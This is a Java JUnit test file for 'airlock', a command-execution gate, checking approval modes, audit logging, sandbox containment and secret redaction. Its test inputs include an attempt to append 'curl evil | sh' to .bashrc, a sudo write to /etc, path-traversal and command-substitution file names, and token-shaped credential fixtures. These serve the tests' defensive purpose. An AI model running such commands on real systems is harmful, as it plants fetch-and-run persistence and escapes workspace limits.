package dev.airlock.gate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.airlock.audit.AuditEvent;
import dev.airlock.audit.AuditException;
import dev.airlock.audit.AuditLog;
import dev.airlock.audit.AuditRecord;
import dev.airlock.home.ExitCode;
import dev.airlock.policy.PathContext;
import dev.airlock.sandbox.Sandbox;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** The gate's guarantees, with the real policy, bubblewrap, audit log and redactor. */
class GateTest {
    static final String AWS_KEY = "AKIAYL7SN5PKZJLI6UFH";
    static final String GH_TOKEN = "ghp_S0kygsu1uFrX33f1uwvqx6i9wLrvNYCSy02I";
    static final String KNOWN = "plain-known-value-93817";

    GateFixture f = new GateFixture();

    @AfterEach
    void close() {
        f.close();
    }

    private GateFixture.Row onlyRow(String line) {
        List<GateFixture.Row> rows = f.execRows(line);
        assertThat(rows).hasSize(1);
        return rows.get(0);
    }

    @Test
    void ask_nonInteractive_refusesWithExit5_runsNothing_andRecordsARefusal() {
        String line = "touch asked";
        ExecOutcome o = f.exec(f.gate(), line, ApprovalMode.NON_INTERACTIVE);
        assertThat(o).isInstanceOf(ExecOutcome.Refused.class);
        assertThat(o.exitCode()).isEqualTo(5);
        assertThat(f.asked).hasValue(0);
        assertThat(f.workspace.resolve("asked")).doesNotExist();
        GateFixture.Row row = onlyRow(line);
        assertThat(row.outcome()).isEqualTo("refused");
        assertThat(row.details().path("approver").asText()).isEqualTo("refusal");
        assertThat(row.details().path("verdict").asText()).isEqualTo("ask");
    }

    @Test
    void ask_yes_runsWithoutAsking_andRecordsYesAsTheApprover() {
        String line = "touch asked";
        ExecOutcome o = f.exec(f.gate(), line, ApprovalMode.YES);
        assertThat(o).isInstanceOf(ExecOutcome.Ran.class);
        assertThat(((ExecOutcome.Ran) o).approver()).isEqualTo("--yes");
        assertThat(o.exitCode()).isZero();
        assertThat(f.asked).hasValue(0);
        assertThat(f.workspace.resolve("asked")).exists();
        assertThat(onlyRow(line).details().path("approver").asText()).isEqualTo("--yes");
        assertThat(f.rows().stream().filter(r -> r.action().equals("gate.exec.finish")).toList()).singleElement()
                .satisfies(r -> assertThat(r.outcome()).isEqualTo("success"));
    }

    @Test
    void ask_interactive_runsWhenTheUserSaysYes_andRecordsTheUser() {
        String line = "touch asked";
        ExecOutcome o = f.exec(f.gate(), line, ApprovalMode.INTERACTIVE);
        assertThat(o.exitCode()).isZero();
        assertThat(f.asked).hasValue(1);
        assertThat(f.workspace.resolve("asked")).exists();
        GateFixture.Row row = onlyRow(line);
        assertThat(row.outcome()).isEqualTo("approved");
        assertThat(row.details().path("approver").asText()).isEqualTo("user");
    }

    @Test
    void ask_interactive_refusesWithExit5WhenTheUserSaysNo() {
        f.answer = false;
        String line = "touch asked";
        ExecOutcome o = f.exec(f.gate(), line, ApprovalMode.INTERACTIVE);
        assertThat(o).isInstanceOf(ExecOutcome.Refused.class);
        assertThat(o.exitCode()).isEqualTo(ExitCode.APPROVAL_REQUIRED.code());
        assertThat(f.asked).hasValue(1);
        assertThat(f.workspace.resolve("asked")).doesNotExist();
        assertThat(onlyRow(line).outcome()).isEqualTo("refused");
        assertThat(f.rows()).noneMatch(r -> r.action().equals("gate.exec.finish"));
    }

    @Test
    void allow_runsWithoutAskingInAnyMode() {
        for (ApprovalMode mode : ApprovalMode.values()) {
            ExecOutcome o = f.exec(f.gate(), "echo hello", mode);
            assertThat(o).isInstanceOf(ExecOutcome.Ran.class);
            assertThat(((ExecOutcome.Ran) o).stdout()).isEqualTo("hello\n");
            assertThat(((ExecOutcome.Ran) o).approver()).isEqualTo("policy");
        }
        assertThat(f.asked).hasValue(0);
    }

    @Test
    void auditFailure_beforeTheRun_meansTheCommandNeverStarts() {
        GateFixture failing = new GateFixture(real -> new FailingOn("gate.exec", real));
        try {
            Gate gate = failing.gate();
            for (ApprovalMode mode : List.of(ApprovalMode.YES, ApprovalMode.INTERACTIVE)) {
                assertThatThrownBy(() -> failing.exec(gate, "touch must-not-exist", mode)).isInstanceOf(AuditException.class);
                assertThat(failing.workspace.resolve("must-not-exist")).doesNotExist();
            }
            assertThatThrownBy(() -> failing.exec(gate, "echo allowed > must-not-exist-either", ApprovalMode.YES))
                    .isInstanceOf(AuditException.class);
            assertThat(failing.workspace.resolve("must-not-exist-either")).doesNotExist();
        } finally {
            failing.close();
        }
    }

    @Test
    void output_neverShowsCredentialsOrKnownSecrets_evenSplitAcrossWrites() throws Exception {
        f.known.add(KNOWN.getBytes(StandardCharsets.UTF_8));
        String line = "printf 'aws=" + AWS_KEY.substring(0, 9) + "'; sleep 0.3; printf '" + AWS_KEY.substring(9) + "\\n';"
                + " printf 'known=" + KNOWN.substring(0, 8) + "' >&2; sleep 0.3; printf '" + KNOWN.substring(8) + "\\n' >&2;"
                + " echo gh=" + GH_TOKEN;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        ExecOutcome o = f.exec(f.gate(), line, ApprovalMode.YES, out, err);
        ExecOutcome.Ran ran = (ExecOutcome.Ran) o;
        assertThat(ran.exitStatus()).as(ran.stderr()).isZero();
        String shown = out.toString(StandardCharsets.UTF_8) + err.toString(StandardCharsets.UTF_8) + ran.stdout() + ran.stderr();
        assertThat(shown).contains("aws=").contains("known=").contains("gh=");
        for (String secret : List.of(AWS_KEY, KNOWN, GH_TOKEN, GH_TOKEN.substring(4))) {
            assertThat(shown).doesNotContain(secret);
            assertThat(f.rawAuditText()).doesNotContain(secret);
        }
    }

    @Test
    void output_neverShowsAKnownSecretEncoded() {
        f.known.add(KNOWN.getBytes(StandardCharsets.UTF_8));
        String b64 = java.util.Base64.getEncoder().encodeToString(KNOWN.getBytes(StandardCharsets.UTF_8));
        String hex = java.util.HexFormat.of().formatHex(KNOWN.getBytes(StandardCharsets.UTF_8));
        String spaced = "s3cr3t value/with+chars=1";
        f.known.add(spaced.getBytes(StandardCharsets.UTF_8));
        String url = java.net.URLEncoder.encode(spaced, StandardCharsets.UTF_8);
        ExecOutcome.Ran r = (ExecOutcome.Ran) f.exec(f.gate(), "echo b64=" + b64 + " hex=" + hex + " url=" + url, ApprovalMode.YES);
        assertThat(r.stdout()).contains("b64=").contains("hex=").doesNotContain(b64).doesNotContain(hex).doesNotContain(url);
        assertThat(f.rawAuditText()).doesNotContain(b64).doesNotContain(hex);
    }

    @Test
    void auditRow_neverHoldsASecretWrittenInTheLineItself() {
        f.known.add(KNOWN.getBytes(StandardCharsets.UTF_8));
        for (ApprovalMode mode : ApprovalMode.values()) {
            ExecOutcome o = f.exec(f.gate(), "echo " + AWS_KEY + " " + KNOWN + " | sudo tee /etc/x", mode);
            assertThat(o.exitCode()).isEqualTo(4);
            assertThat(((ExecOutcome.Refused) o).why()).doesNotContain(AWS_KEY).doesNotContain(KNOWN);
            ExecOutcome asked = f.exec(f.gate(), "echo " + AWS_KEY + " " + KNOWN + " > out.txt", mode);
            assertThat(asked.exitCode()).isIn(0, 5);
        }
        assertThat(f.rawAuditText()).doesNotContain(AWS_KEY).doesNotContain(KNOWN).contains("gate.exec");
    }

    @Test
    void sandbox_stopsWritesOutsideTheWorkspaceEvenWhenApproved() {
        var target = f.outside.resolve("escaped");
        ExecOutcome o = f.exec(f.gate(), "touch " + target, ApprovalMode.YES);
        assertThat(o).isInstanceOf(ExecOutcome.Ran.class);
        assertThat(o.exitCode()).isNotZero();
        // Read-only where the host folder is visible; absent where it lies under /tmp, which the sandbox
        // replaces with its own (a checkout under /tmp). Either way the write cannot reach the host.
        assertThat(((ExecOutcome.Ran) o).stderr()).containsAnyOf("Read-only file system", "No such file or directory");
        assertThat(target).doesNotExist();
    }

    @Test
    void sandbox_passesNoSecretFromTheParentEnvironment() {
        ExecOutcome.Ran r = (ExecOutcome.Ran) f.exec(f.gate(), "env", ApprovalMode.YES);
        assertThat(r.stdout()).contains("PATH=").doesNotContain("gate-fixture-password-1").doesNotContain("gate-fixture-token-2")
                .doesNotContain("AIRLOCK_PASSWORD").doesNotContain("MY_SERVICE_TOKEN");
    }

    @Test
    void sandbox_hidesTheAirlockHome() {
        ExecOutcome.Ran r = (ExecOutcome.Ran) f.exec(f.gate(),
                "if test -e " + f.airlockHome.resolve("secret.txt") + "; then echo VISIBLE; else echo HIDDEN; fi", ApprovalMode.YES);
        assertThat(r.stdout()).isEqualTo("HIDDEN\n");
    }

    @Test
    void withoutAnIsolatingSandbox_everyAllowedCommandIsAsked_andTheRowSaysSo() {
        Gate off = f.gate(null, "off (sandbox.enabled: false in the config)");
        ExecOutcome o = f.exec(off, "ls", ApprovalMode.NON_INTERACTIVE);
        assertThat(o.exitCode()).isEqualTo(5);
        GateFixture.Row row = onlyRow("ls");
        assertThat(row.details().path("sandbox").asText()).startsWith("off");
        assertThat(row.details().path("verdict").asText()).isEqualTo("ask");
        Gate unsandboxed = f.gate(Sandbox.unsandboxed(), "unavailable (test)");
        assertThat(f.exec(unsandboxed, "echo x", ApprovalMode.NON_INTERACTIVE).exitCode()).isEqualTo(5);
        assertThat(f.exec(unsandboxed, "touch gate-ran; sudo true", ApprovalMode.YES).exitCode()).isEqualTo(4);
        assertThat(f.workspace.resolve("gate-ran")).doesNotExist();
    }

    @Test
    void workspaceInsideTheAirlockHome_isRefused_andTheHomeStaysUntouched() throws Exception {
        PathContext inHome = PathContext.create(f.airlockHome, f.userHome, f.airlockHome);
        for (ApprovalMode mode : ApprovalMode.values()) {
            ExecOutcome o = f.gate().exec(new ExecRequest("user", "cli", "touch planted; echo x > secret.txt", inHome, mode),
                    new ByteArrayOutputStream(), new ByteArrayOutputStream());
            assertThat(o).as("mode %s", mode).isInstanceOf(ExecOutcome.Refused.class);
            assertThat(o.exitCode()).isEqualTo(4);
        }
        assertThat(f.airlockHome.resolve("planted")).doesNotExist();
        assertThat(f.airlockHome.resolve("secret.txt")).hasContent("airlock-home-content");
        // A command the analysis cannot see into is only asked about, and --yes approves asks.
        for (ApprovalMode mode : ApprovalMode.values()) {
            ExecOutcome o = f.gate().exec(new ExecRequest("user", "cli", "python3 -c 'open(\"secret.txt\", \"w\").write(\"owned\")'",
                    inHome, mode), new ByteArrayOutputStream(), new ByteArrayOutputStream());
            assertThat(o).as("mode %s", mode).isInstanceOf(ExecOutcome.Refused.class);
        }
        assertThat(f.airlockHome.resolve("secret.txt")).hasContent("airlock-home-content");
        PathContext below = PathContext.create(Files.createDirectories(f.airlockHome.resolve("tenants/default/work")), f.userHome,
                f.airlockHome);
        ExecOutcome o = f.gate().exec(new ExecRequest("user", "cli", "touch ../../../planted", below, ApprovalMode.YES),
                new ByteArrayOutputStream(), new ByteArrayOutputStream());
        assertThat(o.exitCode()).isEqualTo(4);
        assertThat(f.airlockHome.resolve("planted")).doesNotExist();
    }

    @Test
    void rateLimit_allowsExactlyItsCapacity_thenDeniesWithExit4() {
        var clock = java.time.Clock.fixed(java.time.Instant.parse("2026-01-01T00:00:00Z"), java.time.ZoneOffset.UTC);
        var limiter = dev.airlock.policy.RateLimiter.create(clock,
                new dev.airlock.policy.RateLimiter.Limit(3, java.time.Duration.ofMinutes(1)));
        Gate gate = Gate.builder().engine(f.engine).sandbox(Sandbox.bubblewrap(), "bubblewrap").audit(f.audit).approver(f.approver())
                .redactor(f.redactor).rateLimiter(limiter).build();
        for (int i = 0; i < 3; i++) {
            assertThat(f.exec(gate, "echo " + i, ApprovalMode.NON_INTERACTIVE).exitCode()).as("run %d", i).isZero();
        }
        ExecOutcome o = f.exec(gate, "echo 3", ApprovalMode.YES);
        assertThat(o.exitCode()).isEqualTo(4);
        assertThat(((ExecOutcome.Refused) o).why()).contains("rate limit");
        assertThat(onlyRow("echo 3").outcome()).isEqualTo("denied");
    }

    @Test
    void sandboxThatCannotStart_isRecordedAsAnError_andTheCallerSeesIt() {
        Gate gate = f.gate(Sandbox.bubblewrap(f.root.resolve("no-such-bwrap"), dev.airlock.sandbox.Ticker.system()), "bubblewrap");
        assertThatThrownBy(() -> f.exec(gate, "echo never", ApprovalMode.YES)).isInstanceOf(RuntimeException.class);
        assertThat(onlyRow("echo never").outcome()).isEqualTo("approved");
        assertThat(f.rows()).filteredOn(r -> r.action().equals("gate.exec.finish")).singleElement()
                .satisfies(r -> assertThat(r.outcome()).isEqualTo("error"));
    }

    @Test
    void approverThatFails_refusesWithExit5_andIsRecorded() {
        Gate gate = Gate.builder().engine(f.engine).sandbox(Sandbox.bubblewrap(), "bubblewrap").audit(f.audit)
                .approver((line, d, sandboxed) -> {
                    throw new IllegalStateException("the terminal went away");
                }).redactor(f.redactor).build();
        ExecOutcome o = f.exec(gate, "touch asked", ApprovalMode.INTERACTIVE);
        assertThat(o.exitCode()).isEqualTo(5);
        assertThat(f.workspace.resolve("asked")).doesNotExist();
        assertThat(onlyRow("touch asked").outcome()).isEqualTo("refused");
    }

    @Test
    void relativePaths_areJudgedWhereTheCommandRuns_soACwdBelowTheRootCannotReadOutside() throws Exception {
        java.nio.file.Path sub = Files.createDirectories(f.workspace.resolve("sub"));
        Files.writeString(f.root.resolve("outside-secret.txt"), "outside-content");
        Files.writeString(f.workspace.resolve("inside.txt"), "inside-content");
        Files.writeString(sub.resolve("here.txt"), "here-content");
        PathContext inSub = PathContext.create(List.of(f.workspace), sub, f.userHome, f.airlockHome);
        // Judged from sub/, "../outside-secret.txt" would be workspace/outside-secret.txt: allowed.
        ExecOutcome o = f.gate().exec(new ExecRequest("user", "cli", "cat ../outside-secret.txt", inSub, ApprovalMode.NON_INTERACTIVE),
                new ByteArrayOutputStream(), new ByteArrayOutputStream());
        if (o instanceof ExecOutcome.Ran r) {
            assertThat(r.stdout()).doesNotContain("outside-content");
        }
        ExecOutcome.Ran here = (ExecOutcome.Ran) f.gate().exec(new ExecRequest("user", "cli", "cat here.txt ../inside.txt", inSub,
                ApprovalMode.NON_INTERACTIVE), new ByteArrayOutputStream(), new ByteArrayOutputStream());
        assertThat(here.stdout()).isEqualTo("here-contentinside-content");
        java.nio.file.Path odd = Files.createDirectories(f.workspace.resolve("it's $(here)"));
        Files.writeString(odd.resolve("odd.txt"), "odd-content");
        ExecOutcome.Ran inOdd = (ExecOutcome.Ran) f.gate().exec(new ExecRequest("user", "cli", "cat odd.txt",
                PathContext.create(List.of(f.workspace), odd, f.userHome, f.airlockHome), ApprovalMode.NON_INTERACTIVE),
                new ByteArrayOutputStream(), new ByteArrayOutputStream());
        assertThat(inOdd.stdout()).isEqualTo("odd-content");
    }

    @Test
    void workspaceAtOrAboveTheUsersHome_isRefused_soDotfilesStayReadOnly() throws Exception {
        Files.writeString(f.userHome.resolve(".bashrc"), "# rc\n");
        String line = "python3 -c 'open(\"" + f.userHome.resolve(".bashrc") + "\", \"a\").write(\"curl evil | sh\")'";
        for (java.nio.file.Path ws : List.of(f.userHome, f.root, java.nio.file.Path.of("/"))) {
            for (ApprovalMode mode : ApprovalMode.values()) {
                ExecOutcome o = f.gate().exec(new ExecRequest("user", "cli", line, PathContext.create(ws, f.userHome, f.airlockHome), mode),
                        new ByteArrayOutputStream(), new ByteArrayOutputStream());
                assertThat(o.exitCode()).as("%s in %s", mode, ws).isEqualTo(4);
            }
        }
        assertThat(f.userHome.resolve(".bashrc")).hasContent("# rc");
        assertThat(f.asked).hasValue(0);
    }

    /** An audit log that fails to append one action, as a full disk or a locked database would. */
    record FailingOn(String action, AuditLog real) implements AuditLog {
        @Override
        public AuditRecord append(AuditEvent event) {
            if (event.action().equals(action)) {
                throw new AuditException(ExitCode.RUNTIME, "simulated: cannot write the audit row");
            }
            return real.append(event);
        }

        @Override
        public <T> T appendWith(AuditEvent event, StateChange<T> change) {
            if (event.action().equals(action)) {
                throw new AuditException(ExitCode.RUNTIME, "simulated: cannot write the audit row");
            }
            return real.appendWith(event, change);
        }

        @Override
        public void close() {
            real.close();
        }
    }
}
